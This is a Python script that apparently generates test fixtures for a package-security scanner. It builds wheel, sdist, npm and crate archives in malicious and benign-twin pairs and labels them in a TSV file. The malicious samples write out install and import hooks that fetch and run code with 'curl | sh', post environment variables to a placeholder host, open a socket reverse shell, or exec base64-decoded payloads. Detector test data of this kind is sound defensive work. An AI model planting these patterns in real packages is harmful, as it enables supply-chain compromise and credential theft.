#!/usr/bin/env python3
"""make.py FOLDER: packages that hide or that run something by themselves, each with a benign twin, and rows.tsv: finding, bad, twin.
Nothing is ever installed, imported or run; no address in them exists (RFC 2606), and what would run something would run `echo`."""
import base64
import hashlib
import io
import json
import os
import sys
import tarfile
import zipfile

HIDDEN = base64.b64encode(b"print('headgate')").decode()
GET = "https://code.example/x"


def wheel(path, files, metadata="Name: pkg\nVersion: 1.0\n"):
    info = "pkg-1.0.dist-info/"
    files = {**files, info + "METADATA": metadata, info + "WHEEL": "Wheel-Version: 1.0\nTag: py3-none-any\n"}
    files = {name: content if isinstance(content, bytes) else content.encode() for name, content in files.items()}
    digest = lambda content: base64.urlsafe_b64encode(hashlib.sha256(content).digest()).rstrip(b"=").decode()
    rows = "".join(f"{name},sha256={digest(content)},{len(content)}\n" for name, content in files.items())
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {**files, info + "RECORD": (rows + info + "RECORD,,\n").encode()}.items():
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), content)


def tar(path, top, files):
    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as archive:
        for name, content in files.items():
            content = content if isinstance(content, bytes) else content.encode()
            entry = tarfile.TarInfo(f"{top}/{name}")
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))


def sdist(path, files):
    tar(path, "pkg-1.0", {"PKG-INFO": "Name: pkg\nVersion: 1.0\n", **files})


def npm(path, files, **manifest):
    tar(path, "package", {"package.json": json.dumps({"name": "pkg", "version": "1.0.0", **manifest}), **files})


def crate(path, files, cargo='[package]\nname = "pkg"\nversion = "1.0.0"\n'):
    tar(path, "pkg-1.0.0", {"Cargo.toml": cargo, **files})


def module(text):
    return {"pkg/__init__.py": text}


SETUP = "from setuptools import setup\nfrom setuptools.command.install import install\nimport {}\nclass Hook(install):\n    def run(self):\n        {}\n        install.run(self)\nsetup(cmdclass={{'install': Hook}})\n"

# kind, finding, bad, twin
ROWS = [
    (wheel, "decoded-code-at-import", module(f"import base64\nexec(base64.b64decode('{HIDDEN}'))\n"), module(f"import base64\nICON = base64.b64decode('{HIDDEN}')\n")),
    (wheel, "downloaded-code-at-import", module(f"import urllib.request as r\nexec(r.urlopen('{GET}').read())\n"),
     module(f"import urllib.request as r\ndef fetch():\n    return r.urlopen('{GET}').read()\n")),
    (wheel, "environment-sent-at-import", module(f"import os, requests\nrequests.post('{GET}', json=dict(os.environ))\n"),
     module("import os, requests\nPROXY = os.environ.get('PROXY')\nsession = requests.Session()\n")),
    (wheel, "fetches-and-runs-at-import", module(f"import os\nos.system('curl -s {GET} | sh')\n"), module("import subprocess\nV = subprocess.check_output(['git', 'describe'])\n")),
    (wheel, "fetches-then-starts-at-import", module(f"import os, urllib.request\nurllib.request.urlretrieve('{GET}', 'x')\nos.system('./x')\n"),
     module(f"import os, urllib.request\ndef fetch():\n    urllib.request.urlretrieve('{GET}', 'x')\n    os.system('./x')\n")),
    (wheel, "remote-shell-at-import", module("import socket, os, pty\ns = socket.socket()\ns.connect(('code.example', 1))\nos.dup2(s.fileno(), 0)\npty.spawn('sh')\n"),
     module("import os\nos.dup2(1, 2)\n")),
    (wheel, "far-right", module("import os" + " " * 300 + ";os.getcwd()\n"), module("import os  # " + " " * 300 + "a comment\n")),
    (wheel, "invisible-text", module("x = '" + "\U000e0100" * 40 + "'\n"), module("x = '\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f'\n")),
    (wheel, "decoded-code-at-start", {"pkg.pth": f"import base64;exec(base64.b64decode('{HIDDEN}'))\n"}, {"pkg.pth": "import os; exec('if os.sep: pass')\n"}),
    (wheel, "network-at-start", {"sitecustomize.py": f"import urllib.request\nurllib.request.urlopen('{GET}')\n"}, {"pkg/sitecustomize.py": f"import urllib.request\nURL = '{GET}'\n"}),
    (sdist, "fetches-and-runs-at-install", {"setup.py": SETUP.format("os", f"os.system('curl {GET} | sh')")}, {"setup.py": SETUP.format("os", "os.system('make all')")}),
    (sdist, "downloaded-code-at-install", {"setup.py": f"from urllib.request import urlopen\nexec(urlopen('{GET}').read())\n"}, {"setup.py": "exec(open('pkg/version.py').read())\n"}),
    (sdist, "decoded-code-at-install", {"setup.py": SETUP.format("zlib", "exec(zlib.decompress(b'x'))")}, {"setup.py": SETUP.format("zlib", "print(zlib.crc32(b'x'))")}),
    (sdist, "environment-sent-at-install", {"setup.py": f"import requests, socket\nrequests.get('{GET}?' + socket.gethostname())\nfrom setuptools import setup\nsetup()\n"},
     {"setup.py": "import socket\nprint(socket.gethostname())\nfrom setuptools import setup\nsetup()\n"}),
    (npm, "fetches-and-runs-at-install", ({}, {"scripts": {"preinstall": f"curl {GET} | sh"}}), ({}, {"scripts": {"test": f"curl {GET} | sh"}})),
    (npm, "decoded-code-at-install", ({"a.js": f"eval(Buffer.from('{HIDDEN}', 'base64').toString())"}, {"scripts": {"postinstall": "node a.js"}}),
     ({"a.js": f"console.log(Buffer.from('{HIDDEN}', 'base64').toString())"}, {"scripts": {"postinstall": "node a.js"}})),
    (npm, "environment-sent-at-install", ({"a.js": "require('./b')", "b.js": "const h = require('https'), e = JSON.stringify(process.env); h.request({host: 'code.example'}).end(e); h.get('https://code.example/' + e)"},
                                          {"scripts": {"install": "node a"}}), ({"a.js": "console.log(process.env.HOME)"}, {"scripts": {"install": "node a"}})),
    (npm, "obfuscated-source", ({"index.js": "".join(f"var _0x{4096 + i % 30:x}ab=_0x{4096 + i % 30:x}cd;" for i in range(100))}, {}), ({"index.js": "".join(f"var a{i}=b{i};" for i in range(100))}, {})),
    (crate, "environment-sent-at-install", {"build.rs": "fn main() { for (k, v) in std::env::vars() { std::net::TcpStream::connect((k, 1)); } }\n"},
     {"build.rs": "use std::process::Command;\nfn main() { Command::new(\"rustc\"); std::env::var(\"OUT_DIR\"); }\n"}),
    (crate, "name-mismatch", {"Cargo.toml.orig": '[package]\nname = "pkg"\nversion = "0.9.0"\n'}, {"Cargo.toml.orig": '[package]\nname = "pkg"\nversion.workspace = true\n'}),
]
NAMES = {wheel: "pkg-1.0-py3-none-any.whl", sdist: "pkg-1.0.tar.gz", npm: "pkg-1.0.0.tgz", crate: "pkg-1.0.0.crate"}


def make(kind, folder, content):
    os.makedirs(folder)
    path = os.path.join(folder, NAMES[kind])
    if kind is npm:
        kind(path, content[0], **content[1])
    else:
        kind(path, content)
    return path


os.chdir(sys.argv[1])
with open("rows.tsv", "w", encoding="utf-8") as rows:
    for number, (kind, finding, bad, twin) in enumerate(ROWS):
        print(f"content.{finding}", make(kind, f"bad{number}", bad), make(kind, f"twin{number}", twin), sep="\t", file=rows)
